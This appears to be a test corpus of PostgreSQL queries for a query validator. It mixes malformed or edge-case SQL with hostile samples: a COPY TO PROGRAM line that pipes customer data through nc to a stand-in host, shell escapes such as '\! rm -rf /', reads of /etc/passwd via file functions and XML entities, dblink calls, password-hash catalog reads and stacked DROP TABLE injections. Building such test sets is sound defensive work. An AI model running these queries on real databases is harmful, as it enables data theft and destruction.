SELECT * FROM pg_catalog.pg_authid
SELECT * FROM pg_stat_activity
SELECT * FROM pg_user
SELECT x.n FROM customers c RIGHT JOIN LATERAL (SELECT COUNT(*) AS n FROM orders WHERE customer_id = c.id) x ON TRUE
SELECT rolname FROM pg_roles
SELECT * FROM pg_ls_dir('/etc')
SELECT pg_ls_logdir()
SELECT pg_read_binary_file('/etc/passwd')
SELECT pg_stat_file('/etc/passwd')
SELECT lo_import('/etc/passwd'), lo_export(1, '/tmp/x')
SELECT lo_creat(-1)
SELECT lo_unlink(5)
SELECT pg_file_write('x', 'y', true)
SELECT pg_logfile_rotate(), pg_reload_conf()
SELECT pg_switch_wal()
SELECT pg_terminate_backend(pid) FROM customers
SELECT pg_advisory_lock(1)
SELECT pg_try_advisory_xact_lock(1)
SELECT pg_notify('x', 'y')
SELECT pg_sleep_for('5 minutes'), pg_sleep_until('tomorrow')
SELECT set_config('search_path', 'x', false)
SELECT setval('s', 1), currval('s'), lastval()
SELECT txid_current(), pg_export_snapshot()
SELECT current_user, session_user
SELECT current_database(), version()
SELECT current_schema(), inet_server_addr()
SELECT has_table_privilege('orders', 'SELECT')
SELECT query_to_xml('SELECT 1', true, true, '')
SELECT table_to_xml('orders', true, true, '')
SELECT cursor_to_xml('c', 1, true, true, '')
SELECT schema_to_xml('public', true, true, '')
SELECT database_to_xml_and_xmlschema(true, true, '')
SELECT * FROM dblink('x', 'SELECT 1') AS t(a int)
SELECT dblink_connect('x'), dblink_exec('DROP TABLE x')
SELECT * FROM crosstab('SELECT 1') AS t(a int)
SELECT * FROM postgres_fdw_get_connections()
SELECT pg_get_viewdef('v'::regclass), pg_get_functiondef(1)
SELECT pg_relation_filepath('orders')
SELECT pg_database_size('postgres')
SELECT ts_stat('SELECT 1')
SELECT plpgsql_call_handler()
SELECT "pg_sleep"(1)
SELECT pg_catalog."pg_sleep"(1)
SELECT U&"pg\005fsleep"(1)
SELECT * FROM U&"\0070g_shadow"
SELECT * FROM U&"!0070g_shadow" UESCAPE '!'
SELECT 1 FROM "pg_shadow"
TABLE pg_authid
SELECT (TABLE pg_shadow)
SELECT name FROM customers WHERE id IN (TABLE pg_shadow)
SELECT * FROM ONLY pg_class
SELECT * FROM ROWS FROM (pg_ls_dir('/'))
SELECT * FROM ROWS FROM (generate_series(1, 2), pg_ls_dir('/')) AS x
SELECT x FROM customers, LATERAL pg_ls_dir('/') AS x
SELECT x FROM customers CROSS JOIN LATERAL (SELECT pg_read_file(name)) AS y(x)
SELECT COUNT(*) FILTER (WHERE pg_sleep(1) IS NULL) FROM orders
SELECT percentile_cont(0.5) WITHIN GROUP (ORDER BY pg_sleep(1)) FROM orders
SELECT array_agg(total ORDER BY pg_sleep(1)) FROM orders
SELECT id FROM orders LIMIT (SELECT pg_sleep(1)::text::int)
SELECT id FROM orders OFFSET length(pg_read_file('x'))
SELECT DISTINCT ON (pg_sleep(1)) id FROM orders
SELECT 1 WINDOW w AS (ORDER BY pg_sleep(1))
SELECT ARRAY[pg_sleep(1)]
SELECT ROW(pg_sleep(1))
SELECT (pg_stat_file('x')).size
SELECT name FROM customers GROUP BY ROLLUP (name, pg_sleep(1))
VALUES (pg_sleep(1))
SELECT * FROM (VALUES (pg_sleep(1))) AS v
DO $$ BEGIN PERFORM pg_sleep(1); END $$
DO LANGUAGE plpgsql $x$ BEGIN DELETE FROM orders; END $x$
COPY (SELECT * FROM customers) TO PROGRAM 'nc evil 1'
COPY customers TO STDOUT
COPY orders FROM PROGRAM 'id'
\! rm -rf /
\copy orders to '/tmp/x'
SELECT 1 \gexec
SELECT 1 \g /tmp/x
SELECT $$x$$; DROP TABLE orders; --$$
SELECT 'a' 'b'; DELETE FROM orders
SELECT E'\'; DROP TABLE orders; --'; DROP TABLE items
SELECT /* /* nested */ 1 */ 1; DROP TABLE orders
SELECT id FROM orders FOR NO KEY UPDATE
SELECT id FROM orders FOR KEY SHARE
SELECT o.id FROM orders o JOIN customers c ON c.id = o.customer_id FOR UPDATE OF o
(SELECT id FROM orders FOR UPDATE)
SELECT id FROM orders UNION ALL (SELECT id FROM customers FOR SHARE)
SELECT id FROM orders WHERE id IN (SELECT id FROM orders FOR UPDATE)
EXPLAIN (ANALYZE, BUFFERS) SELECT 1
EXPLAIN (ANALYZE) DELETE FROM orders
EXECUTE s(1)
PREPARE s (int) AS SELECT $1
DECLARE c CURSOR FOR SELECT * FROM orders
DISCARD ALL
LISTEN x
NOTIFY x, 'y'
CHECKPOINT
CLUSTER orders
REINDEX TABLE orders
VACUUM FULL orders
SECURITY LABEL ON TABLE orders IS 'x'
IMPORT FOREIGN SCHEMA x FROM SERVER y INTO z
CREATE EXTENSION dblink
CREATE SERVER s FOREIGN DATA WRAPPER postgres_fdw
ALTER SYSTEM SET work_mem = '1GB'
ALTER ROLE postgres SUPERUSER
REASSIGN OWNED BY a TO b
SET LOCAL statement_timeout = 0
SET ROLE postgres
SHOW data_directory
SELECT * INTO TEMP x FROM orders
SELECT id INTO UNLOGGED TABLE x FROM orders
WITH x AS (SELECT 1) SELECT * INTO y FROM x
WITH d AS (DELETE FROM orders RETURNING *), e AS (SELECT 1 AS x) SELECT x FROM e
WITH m AS (MERGE INTO orders o USING items i ON o.id = i.id WHEN MATCHED THEN DELETE RETURNING o.id) SELECT * FROM m
WITH RECURSIVE r AS (SELECT 1 AS n UNION ALL SELECT n + pg_sleep(1)::text::int FROM r WHERE n < 3) SELECT n FROM r
SELECT nothing FROM orders, generate_series(1, 3) AS g
SELECT nothing FROM customers, unnest(tags) AS t
SELECT nothing FROM customers c CROSS JOIN LATERAL jsonb_each(c.profile) AS j
SELECT c.nothing FROM customers c, unnest(c.tags) AS t(tag)
SELECT t.nothing FROM customers c, unnest(c.tags) AS t(tag)
SELECT nothing FROM customers c, jsonb_to_record(c.profile) AS x(a int, b text)
SELECT x.c FROM customers c, jsonb_to_record(c.profile) AS x(a int, b text)
SELECT n.nothing FROM customers c, LATERAL (SELECT total FROM orders o WHERE o.customer_id = c.id) n
SELECT 1 FROM customers c, (SELECT total FROM orders o WHERE o.customer_id = c.id) n
SELECT "Name" FROM customers
SELECT "Odd Names"."qty;sold" FROM "Odd Names"
SELECT * FROM "odd names"
SELECT * FROM "Customers"
SELECT id FROM orders ORDER BY total + nothing
SELECT id FROM orders WHERE (customer_id, nothing) = (1, 2)
SELECT id FROM orders WHERE total > ALL (SELECT nothing FROM items)
SELECT SUM(total) FILTER (WHERE nothing > 1) FROM orders
SELECT percentile_cont(0.5) WITHIN GROUP (ORDER BY nothing) FROM orders
SELECT tags[nothing] FROM customers
SELECT profile -> nothing FROM customers
SELECT (c).nothing FROM customers c
SELECT 'orders'::regclass, 'pg_shadow'::regclass::oid
SELECT id FROM orders JOIN items USING (id), employees
SELECT q.id FROM (SELECT o.id, c.id FROM orders o JOIN customers c ON c.id = o.customer_id) q
WITH q AS (SELECT o.id, c.id, c.name FROM orders o JOIN customers c ON c.id = o.customer_id) SELECT name FROM q WHERE id = 3
SELECT name AS n, city AS n FROM customers ORDER BY n
SELECT name AS id, c.* FROM customers c ORDER BY id
SELECT to_regclass('pg_shadow')
SELECT nextval('orders_id_seq'::regclass)
SELECT lo_get(1), loread(1, 1)
SELECT brin_summarize_new_values('i')
SELECT pg_create_restore_point('x'), pg_promote()
SELECT pg_logical_emit_message(false, 'a', 'b')
SELECT obj_description(1), col_description(1, 1)
-- More that reads, waits, or takes what is not its own
SELECT pg_sleep_for('5 minutes')
SELECT pg_sleep_until('tomorrow')
SELECT lo_export(1, '/tmp/x')
SELECT pg_ls_dir('/'), pg_stat_file('x')
SELECT * FROM pg_catalog.pg_shadow
SELECT current_setting('x'), set_config('a', 'b', false)
SELECT pg_terminate_backend(1)
SELECT nextval('orders_id_seq'), currval('x'), lastval()
SELECT query_to_xml('select 1', true, true, '')
SELECT table_to_xml('customers', true, true, '')
SELECT dblink('host=evil', 'select 1')
SELECT * FROM dblink('x', 'select 1') AS t(a int)
SELECT pg_read_binary_file('x')
SELECT pg_notify('a', 'b')
SELECT txid_current()
SELECT pg_reload_conf()
SELECT inet_server_addr(), inet_client_addr()
SELECT current_database(), current_schema, current_catalog
SELECT has_table_privilege('x', 'select')
SELECT to_regclass('pg_user')
SELECT 'pg_user'::regclass
SELECT 1::regproc, 'x'::regrole
SELECT pg_get_viewdef('x')
SELECT obj_description(1)
SELECT xmin, ctid FROM orders
SELECT tableoid FROM orders
SELECT * FROM generate_series(1, 1000000000)
SELECT generate_series(1, 10000000000)
SELECT * FROM orders FOR NO KEY UPDATE
SELECT * FROM orders FOR KEY SHARE SKIP LOCKED
WITH RECURSIVE t AS (SELECT 1 AS n UNION ALL SELECT n + 1 FROM t) SELECT * FROM t
WITH RECURSIVE t(n) AS (SELECT 1 UNION ALL SELECT n FROM t) SELECT count(*) FROM t
SELECT loread(1, 2), lowrite(1, 'x')
SELECT setval('x', 1)
SELECT pg_file_write('x', 'y', false)
SELECT lo_from_bytea(0, 'x'), lo_creat(1), lo_unlink(1)
SELECT U&"\0070g_sleep"(5)
SELECT "pg_sleep"(5)
SELECT pg_catalog.pg_sleep(5)
SELECT name FROM customers WHERE id = (SELECT pg_sleep(5) IS NULL)::int
SELECT database_to_xml(true, true, '')
SELECT cursor_to_xml('x', 1, true, true, '')
SELECT ts_stat('select 1')
SELECT * FROM ts_stat('SELECT to_tsvector(note) FROM orders')
SELECT crosstab('select 1')
SELECT * FROM crosstab('select 1') AS t(a int)
SELECT pg_size_pretty(pg_database_size('x'))
SELECT pg_relation_size('orders'), pg_total_relation_size('orders')
SELECT pg_backend_pid()
SELECT version()
SELECT col_description(1, 1)
SELECT pg_export_snapshot()
SELECT format_type(23, 1)
SELECT pg_column_size(name), pg_input_is_valid('1', 'int') FROM secrets
SELECT array_fill(0, ARRAY[10000, 10000])
SELECT lpad('x', 1000000000, 'y')
SELECT regexp_replace(repeat('a', 10000000), '(a+)+$', '')
NOTIFY x
CLUSTER customers
REFRESH MATERIALIZED VIEW x
SECURITY LABEL ON TABLE customers IS 'x'
EXECUTE p(1)
FETCH ALL FROM c
MOVE 1 FROM c
TRUNCATE customers
TABLE pg_user
SELECT (SELECT rolpassword FROM pg_authid LIMIT 1)
SELECT 1 \; DROP TABLE orders
SELECT 1 WHERE 1 = 1 UNION TABLE pg_user
SELECT xpath('//a', '<a/>'::xml), xmlparse(document pg_read_file('x'))
-- Tables of the catalog as types
SELECT NULL::pg_shadow
SELECT * FROM json_populate_recordset(NULL::pg_catalog.pg_authid, '[]')
SELECT CAST(NULL AS information_schema.tables)
-- Types of others, and those that look names up
SELECT name::evil.type FROM customers
SELECT CAST(name AS "Evil"."ty pe") FROM customers
SELECT name::"PG_CATALOG".int4 FROM customers
SELECT 'pg_shadow'::pg_catalog."regclass"
SELECT 'postgres'::regrole
-- names where Postgres does not look: aliases within expressions, tables before a comma, fields of no row
SELECT name AS n FROM customers GROUP BY n HAVING n = 'x'
SELECT name AS n FROM customers ORDER BY n || 'x'
SELECT 1 FROM customers c, orders o JOIN order_lines l ON l.order_id = c.id
SELECT 1 FROM customers c, items i JOIN order_lines l USING (country)
SELECT profile.city FROM customers
SELECT (profile).city FROM customers
SELECT x.c FROM customers c, XMLTABLE('/a' PASSING c.name::xml COLUMNS b text PATH 'b') x
WITH RECURSIVE g(id) AS (SELECT id FROM employees WHERE id = 1 UNION ALL SELECT e.id FROM employees e, g WHERE e.manager_id = g.id) CYCLE nope SET seen USING path SELECT * FROM g
SELECT RANK() OVER (nowhere ORDER BY id) FROM orders
SELECT JSON_ARRAY(pg_sleep(1) NULL ON NULL)
SELECT JSON_OBJECTAGG(name: nope RETURNING jsonb) FROM customers
SELECT interval(0) '1.5 seconds'
SELECT COALESCE(nope -> 'a', 'x') FROM customers
SELECT * FROM customers FETCH FIRST nope ROWS ONLY
SELECT (c.profile).city FROM customers c
SELECT name FROM customers`
SELECT '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>'::xml
SELECT xpath('/x', xml '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>')
-- units of time that there are not
SELECT date_trunc('fortnight', placed) FROM orders
SELECT EXTRACT(nope FROM placed) FROM orders
SELECT DATE_PART('nope', placed) FROM orders
SELECT placed + INTERVAL '3 nope' FROM orders
SELECT date_trunc(status, placed) FROM orders
-- types that are tables of others, and the columns that a name for USING has not
SELECT NULL::secrets
SELECT * FROM json_populate_record(NULL::secrets, '{}')
SELECT j.total FROM orders a JOIN items b USING (id) AS j
SELECT TO_JSON(j.*) FROM orders a JOIN items b USING (id) AS j
SELECT id FROM orders@elsewhere
SELECT @-@ total FROM orders
WITH RECURSIVE up AS (SELECT id, manager_id FROM employees UNION ALL SELECT e.id, e.manager_id FROM employees e, up WHERE e.manager_id = up.id) CYCLE id, nobody SET is_cycle USING path SELECT id FROM up
SELECT XMLPARSE(CONTENT '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>')
WITH a AS (SELECT id FROM b), b AS (SELECT id FROM orders) SELECT id FROM a
SELECT * FROM (VALUES (1, 2), (3)) AS v
SELECT name FROM customers UNION ALL SELECT department FROM employees ORDER BY department
SELECT LAST_VALUE(note IGNORE NULLS) OVER (ORDER BY placed) FROM orders
SELECT LAG(note) IGNORE NULLS OVER (ORDER BY placed) FROM orders
-- names that outputs have, where these are not in sight
SELECT COUNT(*) FROM orders WHERE count > 1
SELECT status, COUNT(*) FROM orders GROUP BY status HAVING count > 1
SELECT status, COUNT(*) FROM orders GROUP BY status ORDER BY count + 1
SELECT sum FROM (SELECT MAX(total) FROM orders) AS q
-- columns that there are not, in the places of units and behind functions of JSON
SELECT date_bin('1 day', placed, nothing) FROM orders
SELECT q.nothing FROM customers, jsonb_path_query(profile, '$.a') AS q
SELECT id FROM orders WHERE placed > DATETIME('now', '-7 days')
SELECT STRUCT(total, status) FROM orders
-- Names of SQL Server, and an operand that is not told from what comes after it
SELECT [name] FROM customers
SELECT id, [name] FROM [customers]
SELECT |/ 16 - CASE id WHEN 2 THEN 3 END FROM customers
-- Commas with nothing behind them
SELECT id, FROM orders
SELECT id FROM orders WHERE id IN (1, 2,)
SELECT id FROM orders, WHERE id = 1
SELECT COUNT(DISTINCT *) FROM orders
-- HAVING without groups
SELECT o.total FROM orders AS o JOIN customers AS c ON c.id = o.customer_id JOIN items USING (id)
SELECT id FROM orders HAVING id > 3
SELECT DISTINCT status AS s FROM orders HAVING status = 'open' ORDER BY s
-- Rows of values that do not fit
SELECT id FROM orders WHERE (id, customer_id) IN (SELECT id FROM customers)
SELECT id FROM orders WHERE (id, customer_id) = (1, 2, 3)
SELECT COUNT(id, total) FROM orders
WITH RECURSIVE t AS (SELECT * FROM employees WHERE manager_id IS NULL UNION ALL SELECT e.* FROM employees e JOIN t ON e.manager_id = t.boss) SELECT * FROM t
WITH RECURSIVE t AS (SELECT *, 1 AS depth FROM employees UNION ALL SELECT e.*, depth + 1 FROM employees e JOIN t ON e.manager_id = t.id WHERE level < 5) SELECT * FROM t
SELECT c.id AS id, COUNT(*) FROM customers c JOIN orders o ON o.customer_id = c.id GROUP BY id
SELECT c.name FROM customers c JOIN (orders o JOIN order_lines l ON l.order_id = o.id AND o.customer_id = c.id) ON l.quantity = c.id
-- Functions that are called as the field of a value
SELECT (5::float8).pg_sleep
SELECT ('/etc/passwd').pg_read_file
SELECT (lower('/tmp/x')).lo_import
SELECT (('x')::text)."pg_read_file".length
SELECT ('x'::name).pg_read_file
SELECT (total * 2).pg_sleep FROM orders
SELECT 1 AS pg_sleep, (ARRAY[5.0])[1].pg_sleep
SELECT (n).pg_sleep FROM unnest(ARRAY[5.0]) AS t(n), (SELECT 1 AS pg_sleep) AS n
SELECT (t.n).pg_sleep FROM unnest(ARRAY[5.0]) AS t(n)
SELECT * FROM generate_series(1, (5::float8).pg_sleep)
SELECT COUNT(*) FROM orders LIMIT (5::bigint).pg_sleep
SELECT g.pg_sleep FROM abs(5.0) AS g
SELECT g.pg_sleep FROM ROWS FROM (abs(5.0)) AS g
SELECT g.pg_read_file FROM CAST('/etc/passwd' AS text) AS g
-- A namespace before the name of a subquery
SELECT public.q.id FROM (SELECT id FROM orders) q
WITH recent AS (SELECT id FROM orders) SELECT recent.recent.id FROM recent
-- Aggregates of the outer query in its WHERE: the table of the subquery has no such column
SELECT id FROM orders WHERE total > (SELECT AVG(total) FROM items)
SELECT name FROM employees e WHERE e.salary = (SELECT MAX(e.salary) FROM customers c WHERE c.id = e.id)
SELECT name AS N'a; DROP TABLE orders; --' FROM customers
-- The alias of an output in a subquery
SELECT city, COUNT(*) AS n FROM customers GROUP BY city HAVING COUNT(*) > (SELECT AVG(n) FROM items)
SELECT city, COUNT(*) FROM customers GROUP BY city HAVING COUNT(*) > (SELECT AVG(count) FROM items)
SELECT city AS place FROM customers ORDER BY (SELECT place)
SELECT generate_series.generate_series FROM generate_series(1, 2) AS g
SELECT l.quantity FROM customers c CROSS JOIN LATERAL (SELECT c.* FROM orders o WHERE o.customer_id = c.id) l
-- Keys that are two outputs
SELECT o.id, c.id FROM orders o JOIN customers c ON c.id = o.customer_id ORDER BY id
SELECT * FROM orders o JOIN customers c ON c.id = o.customer_id ORDER BY id
SELECT id FROM orders WHERE status GLOB 'o*'
-- Fields that rows and composite types do not have
SELECT (q.x).weight FROM (SELECT d AS x FROM depots d) q
SELECT (SELECT d FROM depots d LIMIT 1).weight
SELECT (unnest(array_agg(d))).weight FROM depots d
SELECT (first_value(d) OVER (ORDER BY d.id)).weight FROM depots d
SELECT (lag(d) OVER (ORDER BY d.id)).weight FROM depots d
SELECT (NULL::depots).weight
SELECT (NULL::public.depots).weight
SELECT (jsonb_populate_record(NULL::depots,'{}')).weight
SELECT (json_populate_record(NULL::depots,'{}')).weight
SELECT (jsonb_populate_recordset(NULL::depots,'[{}]')).weight
SELECT (r).weight FROM depots d, LATERAL (SELECT d AS r) z
SELECT ((array_agg(d))[1]).weight FROM depots d
SELECT ((array_agg(d ORDER BY d.opened DESC) FILTER (WHERE d.id > 0))[1]).weight FROM depots d
SELECT (ARRAY(SELECT d FROM depots d))[1].weight
SELECT (ARRAY[d])[1].weight FROM depots d
SELECT (d).weight FROM depots d
SELECT (d.address).weight FROM depots d
SELECT (d.address).nope FROM depots d
SELECT ((d).address).weight FROM depots d
SELECT (d).address.weight FROM depots d
SELECT (d.docks[1]).weight FROM depots d
SELECT ((d.docks[1]).address).weight FROM depots d
SELECT (d.docks[1]).address.weight FROM depots d
SELECT (unnest(d.docks)).weight FROM depots d
SELECT s.weight FROM depots d, unnest(d.docks) AS s
SELECT (COALESCE(d, d)).weight FROM depots d
SELECT (CASE WHEN true THEN d END).weight FROM depots d
SELECT (ROW('a','b')::place).weight
SELECT (ROW('a','b')::place).nope
SELECT (ROW(1,2)).f3
SELECT (q.r).f3 FROM (SELECT ROW(1,2) AS r) q
WITH c AS (SELECT d AS x FROM depots d) SELECT (c.x).weight FROM c
WITH c AS (SELECT d FROM depots d) SELECT (d).weight FROM c
WITH c AS (SELECT d FROM depots d) SELECT ((c.d).address).weight FROM c
SELECT (q).weight FROM (SELECT * FROM depots) q
SELECT (q.q2).weight FROM (SELECT q2 FROM (SELECT * FROM depots) q2) q
SELECT (min(d.id)).city FROM depots d
SELECT (d.title).weight FROM depots d
SELECT (jsonb_each('{"a":1}')).weight
SELECT (json_each_text('{"a":1}')).weight
SELECT (x.d).weight, (x.v).weight FROM (SELECT d, v FROM depots d JOIN deliveries v ON v.depot_id = d.id) x
SELECT (x.d).id, (x.v).title FROM (SELECT d, v FROM depots d JOIN deliveries v ON v.depot_id = d.id) x
SELECT (SELECT v FROM deliveries v WHERE v.depot_id = d.id ORDER BY v.delivered DESC LIMIT 1).title FROM depots d
SELECT (t.tags)[1].weight FROM deliveries t
SELECT ((SELECT array_agg(v) FROM deliveries v)[1]).title
SELECT (u).title FROM (SELECT unnest(array_agg(v)) AS u FROM deliveries v) z
SELECT u.title FROM (SELECT array_agg(v) AS vs FROM deliveries v) z CROSS JOIN LATERAL unnest(z.vs) AS u
SELECT (u).title FROM (SELECT array_agg(v) AS vs FROM deliveries v) z CROSS JOIN LATERAL unnest(z.vs) AS u
SELECT (x).c FROM (VALUES (1, 2)) AS x(a, b)
SELECT (x).weight FROM (VALUES (1, 2)) AS x(a, b)
SELECT (q.x).weight FROM (SELECT x FROM (VALUES (1, 2)) AS x(a, b)) q
SELECT (x).title FROM jsonb_to_recordset('[{"weight":1}]') AS x(weight int, b text)
SELECT x.title FROM jsonb_to_recordset('[{"weight":1}]') AS x(weight int, b text)
SELECT z.weight FROM (SELECT (q.x).* FROM (SELECT d AS x FROM depots d) q) z
SELECT z.weight FROM (SELECT (d.address).* FROM depots d) z
SELECT d.title FROM depots d ORDER BY (d).weight
SELECT count(*) FROM depots d GROUP BY (d.address).weight
SELECT (nth_value(d, 2) OVER w).weight FROM depots d WINDOW w AS (ORDER BY d.id)
SELECT (d).title.weight FROM depots d
SELECT (NULLIF(d, NULL)).weight FROM depots d
SELECT (array_agg(d)::depots[])[1].weight FROM depots d
SELECT ((q.ds)[1]).weight FROM (SELECT array_agg(d) ds FROM depots d) q
SELECT q.ds[1].weight FROM (SELECT array_agg(d) ds FROM depots d) q
SELECT (array_remove(array_agg(d), NULL))[1].weight FROM depots d
SELECT (greatest(d, d)).weight FROM depots d
SELECT address, height FROM depots d, unnest(d.docks)
SELECT (address).city FROM depots d CROSS JOIN LATERAL unnest(d.docks) u WHERE u.height > 1
SELECT d.id FROM depots d WHERE EXISTS (SELECT 1 FROM unnest(d.docks) s WHERE s.deep > 3)
SELECT t.weight FROM deliveries v, unnest(v.tags) t
WITH RECURSIVE r AS (SELECT d AS x, 1 AS n FROM depots d UNION ALL SELECT r.x, r.n + 1 FROM r WHERE r.n < 3) SELECT (r.x).weight FROM r
WITH r(y) AS (SELECT d AS x FROM depots d) SELECT (r.y).weight FROM r
SELECT (s.y).weight FROM (SELECT d AS x FROM depots d) s(y)
SELECT (x).weight FROM (SELECT d AS x FROM depots d UNION SELECT d FROM depots d) q
SELECT (array_agg(d.address))[1].weight FROM depots d
SELECT (array_append(d.docks, d.docks[1]))[1].weight FROM depots d
SELECT (d.docks || d.docks)[1].weight FROM depots d
SELECT (d.docks[1:2])[1].weight FROM depots d
SELECT (x.r).id FROM (SELECT ROW(d.id, d.title) AS r FROM depots d) x
SELECT (x.r).title FROM (SELECT (d.id, d.title) AS r FROM depots d) x
SELECT ((d.id, d.title)).title FROM depots d
SELECT ('a'::text).weight
SELECT (d.id + 1).weight FROM depots d
SELECT (d.title || 'x').weight FROM depots d
SELECT (d.id > 1).weight FROM depots d
SELECT (count(*)).weight FROM depots d
SELECT (NOT true).weight FROM depots d
SELECT (now()).weight
SELECT (current_date).weight
SELECT (interval '1 day').weight
SELECT (d.state).weight FROM depots d
SELECT "?column?" FROM (SELECT COUNT(*) FROM orders) q
SELECT "?column?" FROM (SELECT (id + 1)::text FROM orders) q
SELECT "?column?" FROM (SELECT 1, 2) q
-- Whole rows that are not grouped
SELECT c, COUNT(*) FROM customers c GROUP BY city
SELECT status, SUM(total) FROM orders GROUP BY status ORDER BY orders
-- DISTINCT ON in another order
SELECT DISTINCT ON (customer_id) customer_id, total FROM orders ORDER BY total DESC
SELECT DISTINCT ON (customer_id, status) customer_id, total FROM orders ORDER BY status, total
SELECT DISTINCT ON (2) id, customer_id FROM orders ORDER BY id
-- Unknown collations and types
SELECT name COLLATE city FROM customers
SELECT name FROM customers ORDER BY name COLLATE NOCASE
SELECT name COLLATE pg_catalog.pg_catalog FROM customers
SELECT note::city FROM orders
SELECT (NULL::title).title
-- GROUPING of what is no key
SELECT GROUPING(total), COUNT(*) FROM orders GROUP BY status
SELECT (SELECT state FROM depots d LIMIT 1).title
SELECT DISTINCT city FROM customers ORDER BY LOWER(city)
SELECT string_agg(DISTINCT city, ',' ORDER BY name) FROM customers
SELECT date_trunc('month', o.placed AT TIME ZONE 'UTC')::date AS m, COUNT(*) FROM orders o GROUP BY status ORDER BY m
SELECT kv.key, COUNT(*) FROM customers c, jsonb_each_text(c.profile) AS kv GROUP BY c.city
SELECT d::date, SUM(o.total) FROM generate_series('2024-01-01'::date, '2024-03-01'::date, '1 day') AS d LEFT JOIN orders o ON o.placed::date = d::date GROUP BY o.status
SELECT profile ->> 'a', COUNT(*) FROM customers GROUP BY city
SELECT id FROM orders WHERE every(total > 5)
SELECT regr_slope(COUNT(*), 2) FROM orders
SELECT id FROM orders ORDER BY 'total'
SELECT id FROM orders FETCH FIRST 5 ROWS WITH TIES
SELECT SUM(total) OVER (RANGE BETWEEN 3 PRECEDING AND CURRENT ROW) FROM orders
SELECT SUM(total) OVER (PARTITION BY status GROUPS BETWEEN 3 PRECEDING AND CURRENT ROW) FROM orders
SELECT id FROM orders WHERE total > ALL (SELECT FROM orders)
SELECT x FROM customers, unnest(name) AS x
-- Recursions
WITH RECURSIVE r (n) AS (SELECT 1 UNION ALL SELECT MAX(n) + 1 FROM r WHERE n < 5) SELECT n FROM r
WITH RECURSIVE r (n) AS (SELECT 1 UNION ALL SELECT id FROM orders WHERE id IN (SELECT n + 1 FROM r WHERE n < 5)) SELECT n FROM r
-- DISTINCT with OVER
SELECT COUNT(DISTINCT status) OVER () FROM orders
SELECT id FROM orders WHERE status = ANY ('open', 'late')
SELECT RANK() OVER total, total FROM orders GROUP BY status WINDOW total AS (ORDER BY COUNT(*))
